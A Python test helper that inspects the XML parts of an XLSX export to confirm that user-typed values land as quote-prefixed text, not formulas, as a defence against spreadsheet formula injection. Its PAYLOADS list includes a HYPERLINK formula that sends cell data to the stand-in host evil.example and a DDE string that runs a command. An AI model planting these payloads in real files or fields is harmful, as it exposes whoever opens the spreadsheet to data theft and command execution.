"""What an attack test looks for inside a spreadsheet the product wrote.

An XLSX is a zip of XML parts: a formula is an ``<f>`` element of a sheet part, text sits
in the shared strings (or inline in constant-memory files). Reading the parts, rather
than opening the file with a spreadsheet library, sees exactly what Excel would run.
"""

import io
import re
import zipfile
from xml.sax.saxutils import escape

# Text a person could type into any field that ends in a spreadsheet.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+6281234567890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|'/c calc'!A1",
]
PAYLOAD = PAYLOADS[0]


def xlsx_parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml")
        }


def formula_cells(data: bytes) -> list[str]:
    """The formulas of every sheet: ``<f>`` elements, whatever their text."""
    found = []
    for name, xml in xlsx_parts(data).items():
        if name.startswith("xl/worksheets/"):
            found += re.findall(r"<f[ >].*?</f>|<f/>", xml, flags=re.S)
    return found


def _xml_text(value: str) -> str:
    # xlsxwriter escapes control characters as _xHHHH_ in text.
    text = escape(value, {'"': "&quot;"})
    return re.sub(r"[\t\r]", lambda m: f"_x{ord(m.group()):04X}_", text)


def assert_text_not_formula(data: bytes, values) -> None:
    """No sheet holds a formula, and every ``value`` is there as text, quote-prefixed."""
    assert formula_cells(data) == []
    parts = xlsx_parts(data)
    text = "".join(v for k, v in parts.items() if k.startswith("xl/"))
    for value in values:
        plain = _xml_text(value)
        assert plain in text or escape(value) in text, f"{value!r} is not in the workbook as text"
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]
